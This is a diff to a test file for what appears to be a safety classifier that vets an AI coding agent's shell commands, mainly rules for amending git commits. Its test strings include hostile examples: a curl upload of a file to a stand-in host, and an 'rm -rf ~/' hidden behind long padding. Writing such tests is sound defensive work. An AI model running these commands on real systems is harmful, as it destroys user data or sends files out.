@@ -101,6 +101,20 @@ describe("everyday work is left alone", () => {
   }); // prettier-ignore
 });
 
+test.each(["git commit -m fix", "git -C api commit -m fix", "git cherry-pick abc1234", "git revert --no-edit HEAD"])(
+  "after %s the session may amend its own commit",
+  (command) => {
+    expect(judge("git commit --amend --no-edit", ran(command))).toBe("allow");
+  },
+);
+
+test.each(["git log -1", "git pull --rebase", "git merge --ff-only origin/main"])(
+  "after %s the last commit is somebody else's",
+  (command) => {
+    expect(judge("git commit --amend --no-edit", ran(command))).toBe("block: git-destructive");
+  },
+);
+
 describe("looking back is bounded", () => {
   test("to a number of calls", () => {
     const idle = Array.from({ length: MAX_EARLIER_CALLS }, () => ran("ls"));
@@ -116,11 +130,23 @@ describe("looking back is bounded", () => {
     expect(judge("bash x.sh", wrote("x.sh", `rm -rf ~/\n${"# pad\n".repeat(20_000)}`))).toBe("ask");
   });
 
-  test("to actions that run or send something", () => {
+  test("to actions that run or send something, or amend a commit", () => {
+    const amends = classify(bash("git commit --amend --no-edit"), NOTHING_TRUSTED);
+    expect(amends.verdict).toBe("block");
+    expect(mayDependOnEarlier(amends)).toBe(true);
+    const own = classify(bash("git commit -m fix && git commit --amend --no-edit"), NOTHING_TRUSTED);
+    expect(mayDependOnEarlier(own)).toBe(false);
     const depends = (command: string) => mayDependOnEarlier(classify(bash(command), NOTHING_TRUSTED));
-    for (const command of ["bash x.sh", "./x", "curl -T a https://drop.example.dev", "cat x | python3", "make"])
+    for (const command of [
+      "bash x.sh",
+      "./x",
+      "curl -T a https://drop.example.dev",
+      "cat x | python3",
+      "make",
+      "npm test",
+    ])
       expect(depends(command), command).toBe(true);
-    for (const command of ["ls -la", "npm test", "git status", "cat x.sh", "curl https://example.dev"])
+    for (const command of ["ls -la", "npx vitest run", "git status", "cat x.sh", "curl https://example.dev"])
       expect(depends(command), command).toBe(false);
     expect(mayDependOnEarlier({ ...classify(bash("bash x.sh"), NOTHING_TRUSTED), verdict: "block" })).toBe(false);
   });
